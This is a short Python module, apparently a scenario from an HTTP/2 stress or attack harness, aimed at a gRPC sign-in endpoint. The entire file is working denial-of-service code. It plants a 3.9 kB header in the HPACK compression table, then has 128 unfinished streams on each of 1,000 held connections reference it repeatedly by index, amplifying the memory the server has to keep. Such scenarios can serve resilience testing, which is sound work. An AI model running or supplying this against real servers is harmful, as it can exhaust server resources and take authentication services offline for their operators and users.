"""A field of 3.9 kB that 128 unfinished streams of HTTP/2 name by its number, on 1,000 connections."""

from .. import http2

SERVICE = "auth"
CONNECTIONS = 1000
STREAMS = 128
PATH = "/auth.v1.Authentication/SignIn"


def content(times):
    """Requests that name the field so often each, and do not end."""
    large = http2.literal("x", "v" * 3900, is_kept=True)
    grpc = http2.literal("content-type", "application/grpc")
    again = http2.indexed(http2.NEWEST)
    return http2.settings() + b"".join(
        http2.request(2 * number + 1, http2.METHOD_POST, PATH,
                      grpc + (again if number else large) + again * (times - 1), is_end=False)
        for number in range(STREAMS))


async def attack(scene):
    # Four are within the bound of a request, so that all of them are kept.
    await http2.hold(scene, CONNECTIONS, content(times=4))
